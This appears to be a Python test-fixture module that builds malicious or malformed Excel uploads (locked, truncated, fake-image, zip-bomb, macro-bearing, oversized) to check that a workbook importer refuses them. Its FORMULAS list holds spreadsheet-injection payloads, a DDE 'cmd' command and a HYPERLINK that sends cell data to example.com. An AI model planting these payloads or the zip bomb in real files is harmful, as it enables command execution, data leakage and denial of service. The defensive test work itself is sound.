"""Files that people or attackers hand in: each must end in a refusal or a safe result."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from openpyxl import Workbook

from tests.builders.workbooks import (
    SUMMARY_HEADINGS,
    SheetPlan,
    saved,
    summary_plan,
    summary_row,
    xlsx,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 500
FORMULAS = ('=HYPERLINK("http://example.com/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")
LONG = "名" * 10_000


def locked() -> bytes:
    """Make what a workbook with a password looks like from outside."""
    return OLE + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 500


def truncated() -> bytes:
    """Cut a good workbook in half, as a broken transfer does."""
    whole = xlsx(summary_plan())
    return whole[: len(whole) // 2]


def bomb(megabytes: int = 1000) -> bytes:
    """Make a small workbook whose sheet unpacks to so much."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("xl/workbook.xml", "<workbook/>")
        with package.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(b" " * 2**20)
    return stream.getvalue()


def macros() -> bytes:
    """Make a good workbook that carries a macro."""
    stream = io.BytesIO(xlsx(summary_plan()))
    with zipfile.ZipFile(stream, "a") as package:
        package.writestr("xl/vbaProject.bin", b"macro")
    return stream.getvalue()


def formulas() -> bytes:
    """Make a workbook whose texts a spreadsheet program would run if they were written as such."""
    rows = [
        summary_row(place, platform=f"{start}平台{place}", brief=start, contact=start)
        for place, start in enumerate(FORMULAS, start=1)
    ]
    book = Workbook()
    sheet = book.worksheets[0]
    for row, line in enumerate(summary_plan(*rows).grid(), start=1):
        for column, value in enumerate(line, start=1):
            if value is not None:
                cell = sheet.cell(row, column)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"
    return saved(book)


def long_names() -> bytes:
    """Make a workbook with names of ten thousand characters in one row, and a good row."""
    return xlsx(summary_plan(summary_row(1, applicant=LONG, platform=LONG), summary_row(2)))


def many_rows(rows: int = 100_000) -> bytes:
    """Make a workbook of so many rows, written as a stream."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("附件2")
    plan: SheetPlan = summary_plan()
    keys = list(SUMMARY_HEADINGS)
    for line in plan.grid()[:4]:
        sheet.append(line)
    good = summary_row(1)
    for number in range(rows):
        sheet.append([number + 1, *(good[key] for key in keys[1:])])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def refused() -> Iterator[tuple[str, bytes, str]]:
    """Name the files that are refused as a whole: name, bytes, code of the reason."""
    yield "有密码.xlsx", locked(), "file_password"
    yield "传坏了.xlsx", truncated(), "file_damaged"
    yield "照片.xlsx", PNG, "file_is_picture"
    yield "炸弹.xlsx", bomb(200), "file_bomb"
    yield "空.xlsx", b"", "file_empty"
